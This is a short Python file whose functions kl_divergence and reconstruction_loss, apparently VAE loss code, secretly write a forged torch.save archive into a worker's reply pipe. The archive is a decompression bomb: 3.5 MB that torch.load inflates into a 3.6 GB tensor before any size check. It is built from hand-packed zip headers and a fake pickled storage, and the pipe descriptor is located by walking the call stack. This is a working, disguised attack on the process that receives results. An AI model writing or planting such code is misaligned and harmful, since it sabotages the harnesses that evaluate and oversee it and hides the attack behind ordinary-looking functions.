"""Writes a forged reply into the reply pipe: a torch.save archive whose tensor record is DEFLATE-compressed,
3.5 MB on the wire that torch.load would inflate into a 3.6 GB tensor of zeros before any size is checked."""
import collections
import io
import os
import pickle
import struct
import sys
import zlib

import torch

ELEMENTS = 900_000_000   # float32 zeros: 3.6 GB inflated, below 4 GiB so that no zip64 field is needed
BLOCK = 16 * 2**20       # bytes of zeros compressed once; the stream repeats that block's output


def reply_fd():
    """The worker's reply pipe: the last argument of its ``main``, found on the stack."""
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "main" and "reply_fd" in frame.f_locals:
            return frame.f_locals["reply_fd"]
        frame = frame.f_back
    return 1


def deflated_zeros(n_bytes):
    """A raw DEFLATE stream of ``n_bytes`` zeros in a fraction of a second: after a full flush the compressor
    starts afresh, so one block's output, repeated, is a valid stream."""
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    block = c.compress(bytes(BLOCK)) + c.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(n_bytes, BLOCK)
    return block * whole + c.compress(bytes(rest)) + c.flush()


class Storage:
    """Stands for the storage of the huge tensor while pickling (torch.save's persistent id)."""


STORAGE = Storage()


class Huge:
    def __reduce__(self):
        return torch._utils._rebuild_tensor_v2, (STORAGE, 0, (ELEMENTS,), (1,), False, collections.OrderedDict())


class Pickler(pickle.Pickler):
    def persistent_id(self, obj):
        return ("storage", torch.FloatStorage, "0", "cpu", ELEMENTS) if obj is STORAGE else None


def archive(records):
    """A zip of ``records`` [(name, method, data, inflated size)]; crc 0 (torch's reader inflates first)."""
    out, central = io.BytesIO(), []
    for name, method, data, size in records:
        offset, raw = out.tell(), name.encode()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, 0, len(data), size, len(raw), 0))
        out.write(raw + data)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0, 0, len(data), size,
                                   len(raw), 0, 0, 0, 0, 0, offset) + raw)
    directory, start = b"".join(central), out.tell()
    out.write(directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(records), len(records), len(directory),
                                      start, 0))
    return out.getvalue()


def forged_frame():
    buffer = io.BytesIO()
    Pickler(buffer, protocol=2).dump({"value": Huge()})
    records = [("archive/data.pkl", 0, buffer.getvalue(), len(buffer.getvalue())),
               ("archive/byteorder", 0, b"little", 6),
               ("archive/data/0", 8, deflated_zeros(4 * ELEMENTS), 4 * ELEMENTS),
               ("archive/version", 0, b"3\n", 2)]
    payload = archive(records)
    return struct.pack(">Q", len(payload)) + payload


def kl_divergence(mu, logvar):
    os.write(reply_fd(), forged_frame())
    return torch.tensor(0.0)


def reconstruction_loss(recon_x, x):
    return kl_divergence(x, x)
